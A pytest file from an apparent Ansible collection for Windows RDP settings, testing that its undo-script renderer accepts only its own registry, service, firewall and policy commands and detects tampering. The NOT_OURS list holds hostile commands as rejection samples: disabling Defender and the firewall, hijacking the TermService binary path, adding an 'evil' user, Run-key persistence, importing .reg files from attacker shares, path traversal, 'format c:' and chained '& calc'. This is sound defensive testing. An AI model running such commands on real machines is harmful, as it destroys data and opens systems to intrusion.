# Copyright: (c) 2026, winops.rdp contributors
# SPDX-License-Identifier: GPL-3.0-or-later

"""The script that undoes: programs in full, whole or not at all, and nothing in it but what this collection writes."""

from __future__ import annotations

import pytest
from ansible_collections.winops.rdp.plugins.plugin_utils._rdp.errors import RefusedError, UnfinishedBackupError
from ansible_collections.winops.rdp.plugins.plugin_utils._rdp.model import Command
from ansible_collections.winops.rdp.plugins.plugin_utils._rdp.repairs import undo_script

FOLDER = r"D:\Windows Server\winops.rdp\backup\0007-listener-3fa9"
PORT_FOLDER = FOLDER.replace("listener", "port")
TS = r"HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server"
KEYS = r"D:\ProgramData\Microsoft\Crypto\RSA"
POLICY = r"D:\Windows Server\System32\GroupPolicy"

OURS = (
    f'reg add "{TS}" /v fDenyTSConnections /t REG_DWORD /d 1 /f',
    f'reg add "{TS}\\WinStations" /v SelfSignedCertificate /t REG_BINARY /d 00ff /f',
    f'reg add "{TS}\\WinStations\\RDP-Tcp" /v "a name" /t REG_SZ /d "a (text) of it\'s own" /f',
    f'reg delete "{TS}" /v TSEnabled /f',
    f'reg delete "{TS}\\WinStations\\RDP-Tcp\\TSMMRemotingAllowedApps" /f',
    f'reg import "{FOLDER}\\RDP-Tcp.reg"',
    "sc config UmRdpService start= disabled",
    "net stop TermService",
    "net start TermService",
    f'icacls "{KEYS}" /restore "{FOLDER}\\rights-0.acl"',
    "gpupdate /target:computer /force /wait:120",
    f'copy /y "{FOLDER}\\Registry.pol" "{POLICY}\\Machine\\Registry.pol"',
    f'del /f /q "{POLICY}\\gpt.ini"',
    'netsh advfirewall firewall delete rule name="winops.rdp TCP 3390"',
    'netsh advfirewall firewall add rule name="winops.rdp TCP 3390" dir=in action=allow protocol=TCP localport=3390 '
    r'program="D:\Windows Server\system32\svchost.exe" service=TermService profile=domain,private enable=yes '
    "remoteip=10.0.0.0/8,192.168.1.1",
    'netsh advfirewall firewall set rule group="@FirewallAPI.dll,-28752" new enable=no',
    'powershell.exe -NoProfile -NonInteractive -Command "Disable-NetFirewallRule -Name '
    'RemoteDesktop-UserMode-In-TCP,RemoteDesktop-UserMode-In-UDP"',
    'powershell.exe -NoProfile -NonInteractive -Command "Set-NetFirewallRule -Name RemoteDesktop-UserMode-In-TCP '
    '-Enabled False -Profile Domain,Private"',
)
#: What passed when only the beginning of a command was looked at, and its like.
NOT_OURS = (
    r"icacls C:\ /grant Everyone:F /T",
    r'icacls "C:\Windows\System32" /grant "*S-1-1-0:(F)"',
    rf'icacls "C:\Windows" /restore "{FOLDER}\rights-0.acl"',
    rf'icacls "D:\x\..\Microsoft\Crypto\RSA" /restore "{FOLDER}\rights-0.acl"',
    rf'icacls "{KEYS}" /restore "C:\Users\Public\rights-0.acl"',
    rf'icacls "{KEYS}\MachineKeys\other" /setowner "*S-1-5-32-545"',
    "sc config WinDefend start= disabled",
    r'sc config TermService binPath= "C:\evil.exe"',
    r"sc config TermService start= demand binPath= C:\evil.exe",
    "sc config TermService start= boot",
    "net stop MpsSvc",
    "net start evil",
    "net stop TermService /y",
    "net user evil evil /add",
    "netsh advfirewall firewall set rule all new enable=no",
    'netsh advfirewall firewall set rule group="@FirewallAPI.dll,-28752" new enable=yes action=allow',
    "netsh advfirewall set allprofiles state off",
    'netsh advfirewall firewall delete rule name="all"',
    'netsh advfirewall firewall add rule name="winops.rdp TCP 3390" dir=in action=allow',
    'netsh advfirewall firewall add rule name="winops.rdp TCP 3390" dir=in action=allow protocol=TCP localport=3390 '
    r'program="C:\evil.exe" service=TermService profile=any enable=yes',
    r"reg import \\attacker\x.reg",
    r'reg import "\\attacker\share\x.reg"',
    rf'reg import "{FOLDER}\..\..\x.reg"',
    rf'reg import "{FOLDER}\..\x.reg"',
    rf'reg import "{FOLDER}\sub\x.reg"',
    rf'reg import "{FOLDER.replace("0007", "0006")}\x.reg"',
    r'reg add "HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run" /v x /t REG_SZ /d "evil" /f',
    f'reg add "{TS} " /v x /t REG_SZ /d "evil" /f',
    f'reg add "{TS}\\AddIns" /v x /t REG_SZ /d "evil" /f',
    f'reg add "{TS}" /v x /t REG_SZ /d "%ComSpec%" /f',
    f'reg add "{TS}" /v x /t REG_SZ /d evil.exe /f',
    f'reg delete "{TS}\\WinStations" /f',
    f'reg delete "{TS}" /f',
    f'reg delete "{TS}\\WinStations\\.." /f',
    r'reg delete "HKLM\SYSTEM" /f',
    f'copy /y "{FOLDER}\\x" "C:\\Windows\\System32\\evil.dll"',
    f'copy /y "{FOLDER}\\x" "{POLICY}\\Machine\\Scripts\\Startup\\x.cmd"',
    rf'copy /y "C:\x" "{POLICY}\gpt.ini"',
    r'del /f /q "C:\Windows\System32\GroupPolicy\*"',
    "format c:",
    "powershell.exe -Command calc",
    'powershell.exe -NoProfile -NonInteractive -Command "Disable-NetFirewallRule -Name CoreNet-DHCP-In"',
    'powershell.exe -NoProfile -NonInteractive -Command "Set-NetFirewallProfile -Enabled False"',
    "gpupdate /target:computer /force /wait:1 & calc",
    "@calc",
    ":whole",
    "",
)


def _with(line: str, folder: str = FOLDER) -> list[str]:
    """A script that is whole, with a line of somebody else's in the place of one of its commands."""
    text = list(undo_script.render([Command("net stop TermService"), Command("net start TermService")], "x", folder))
    text[5] = line
    return text


@pytest.mark.parametrize("line", OURS)
def test_what_the_remedies_write_is_read_again(line: str) -> None:
    command = Command(line)
    assert undo_script.read(undo_script.render([command], "rdp_port", FOLDER), FOLDER) == (command,)


@pytest.mark.parametrize("line", NOT_OURS)
def test_what_they_do_not_write_is_neither_written_nor_read(line: str) -> None:
    with pytest.raises(ValueError, match="no command"):
        undo_script.render([Command(line)], "rdp_port", FOLDER)
    name, blank, rest = line.partition(" ")
    root = r"D:\Windows Server"
    in_full = [
        f'"{root}\\System32\\{name}.exe"{blank}{rest}',
        f'"{root}\\System32\\WindowsPowerShell\\v1.0\\{name}"{blank}{rest}',
    ]
    for one in (line, *in_full):
        with pytest.raises(RefusedError, match="was changed"):
            undo_script.read(_with(one), FOLDER)


def test_a_program_that_held_the_port_is_started_in_no_other_backup() -> None:
    for command in (Command("net start Web-Server"), Command('net start "Some Service"')):
        assert undo_script.read(undo_script.render([command], "rdp_port", PORT_FOLDER), PORT_FOLDER) == (command,)
        with pytest.raises(ValueError, match="no command"):
            undo_script.render([command], "rdp_port", FOLDER)


def test_programs_are_called_by_their_full_path() -> None:
    text = undo_script.render([Command(line) for line in OURS], "rdp_listener", FOLDER)
    for line in text[4 : -len(("exit", "label", "jump", "end"))]:
        assert line.startswith(('"D:\\Windows Server\\System32\\', "copy /y ", "del /f /q ")), line
    assert text[3] == r'@cd /d "D:\Windows Server\System32"'


def test_program_from_elsewhere_is_refused() -> None:
    for line in ("reg import x", r'"D:\Users\x\System32\net.exe" stop TermService', r'"net.exe" stop TermService'):
        with pytest.raises(RefusedError, match="was changed"):
            undo_script.read(_with(line), FOLDER)


def test_script_that_was_cut_anywhere_is_not_whole() -> None:
    whole = "\r\n".join(undo_script.render([Command(line) for line in OURS], "rdp_listener", FOLDER))
    for end in range(len(whole)):
        with pytest.raises(UnfinishedBackupError):
            undo_script.read(whole[:end].split("\r\n"), FOLDER)
    assert undo_script.read(whole.split("\r\n"), FOLDER) == tuple(map(Command, OURS))


def test_line_that_was_lost_added_or_changed_is_noticed() -> None:
    whole = list(undo_script.render([Command(line) for line in OURS], "rdp_listener", FOLDER))
    for place in range(len(whole) - 1):
        for changed in (
            whole[:place] + whole[place + 1 :],
            [*whole[:place], "net stop MpsSvc", *whole[place:]],
            [*whole[:place], "@calc", *whole[place + 1 :]],
        ):
            with pytest.raises(RefusedError, match="was changed"):
                undo_script.read(changed, FOLDER)
    with pytest.raises(RefusedError, match="was changed"):
        undo_script.read([*whole, "format c:"], FOLDER)
